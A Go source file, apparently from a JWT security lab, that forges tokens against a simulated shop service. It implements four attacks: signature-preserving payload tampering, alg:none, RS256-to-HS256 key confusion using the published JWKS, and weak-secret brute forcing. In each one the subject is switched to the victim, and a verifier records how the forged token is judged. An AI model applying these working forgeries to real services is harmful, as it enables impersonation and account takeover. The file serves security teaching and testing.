package scenario

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"strings"

	"jwtlab/app/check"
	"jwtlab/app/jws"
	"jwtlab/app/key"
	"jwtlab/app/lab/wire"
	"jwtlab/app/token"
)

// tamper writes another name into the attacker's own token, and leaves the signature as it is.
func (r *raid) tamper() {
	header, payload, signature := r.ownToken()
	r.show(header + "." + rewritten(payload) + "." + signature)
}

// algNone says in the header that there is no signature.
func (r *raid) algNone() {
	header, payload, _ := r.ownToken()
	r.show(reheaded(header, "none") + "." + rewritten(payload) + ".")
}

// keyConfusion signs by HS256 with the text of the public key, which everybody can get.
func (r *raid) keyConfusion() {
	header, payload, _ := r.ownToken()
	secret := []byte(r.thief.Send("GET", shop+"/.well-known/jwks.json", nil, "").Body)
	if public := key.Read(string(secret), key.Auto).Keys; len(public) > 0 {
		text, _ := public[0].PEM()
		secret = []byte(text)
	}
	r.show(signed(reheaded(header, "HS256")+"."+rewritten(payload), secret))
}

// weakSecret tries the secrets that everybody knows on the attacker's own token, and signs with the one that fits.
func (r *raid) weakSecret() {
	header, payload, signature := r.ownToken()
	for _, guess := range wordlist {
		if signed(header+"."+payload, []byte(guess)) == header+"."+payload+"."+signature {
			r.list.Yes("scenario.guessed", guess)
			r.show(signed(header+"."+rewritten(payload), []byte(guess)))
			return
		}
	}
}

// ownToken are the segments of the token that the attacker has for an account of its own.
func (r *raid) ownToken() (header, payload, signature string) {
	_, text := r.ownLogin("access")
	parts := append(strings.Split(text, "."), "", "")
	return parts[0], parts[1], parts[2]
}

// show shows a forged token to the service, and to our own verifier, which says what it thinks of it.
func (r *raid) show(forged string) {
	held := []Loot{{"access", forged, "forged", r.net.Now()}}
	r.outcome.Accepted = r.use(held, r.asVictim)
	r.list.Checks = append(r.list.Checks, r.judged(forged)...)
	if r.outcome.Accepted {
		r.got(held...)
		r.outcome.Until = Forever // the next one can be forged as well
	}
}

// judged is what a verifier that has the service's keys says of a forged token: why it fails, or that the signature fits.
func (r *raid) judged(forged string) (said []check.Check) {
	keys := key.Read(r.replicas[0].service.SigningKeys().JWKS(r.net.Now()), key.Auto)
	if r.setup.Credential == WeakJWT {
		keys = key.Read(weakKeys(), key.Auto) // which are not published
	}
	reading := token.Read(forged)
	if len(reading.Tokens) == 0 || len(keys.Keys) == 0 {
		return nil
	}
	for _, c := range jws.Verify(reading.Tokens[0], keys, jws.Options{}).Checks {
		if c.Answer == check.No || c.Name == "signature" && c.Answer == check.Yes {
			said = append(said, c)
		}
	}
	return said
}

// rewritten is a payload in which the subject is the victim.
func rewritten(payload string) string {
	return edited(payload, func(claims map[string]json.RawMessage) { claims["sub"] = json.RawMessage(`"alice"`) })
}

// reheaded is a header with another algorithm.
func reheaded(header, alg string) string {
	return edited(header, func(h map[string]json.RawMessage) { h["alg"] = json.RawMessage(`"` + alg + `"`) })
}

func edited(segment string, change func(map[string]json.RawMessage)) string {
	raw, err := base64.RawURLEncoding.DecodeString(segment)
	var object map[string]json.RawMessage
	if err != nil || json.Unmarshal(raw, &object) != nil {
		return segment
	}
	change(object)
	text, err := json.Marshal(object)
	if err != nil {
		return segment
	}
	return encode(text)
}

// signed is a signing input with its HMAC (RFC 7515 §5.1).
func signed(input string, secret []byte) string {
	m := hmac.New(sha256.New, secret)
	m.Write([]byte(input))
	return input + "." + encode(m.Sum(nil))
}

// cookieIn is the value that a response gives to a cookie; empty for none.
func cookieIn(header []wire.Field, name string) string {
	for _, f := range header {
		if rest, ok := strings.CutPrefix(f.Value, name+"="); ok && f.Name == "Set-Cookie" {
			value, _, _ := strings.Cut(rest, ";")
			return value
		}
	}
	return ""
}
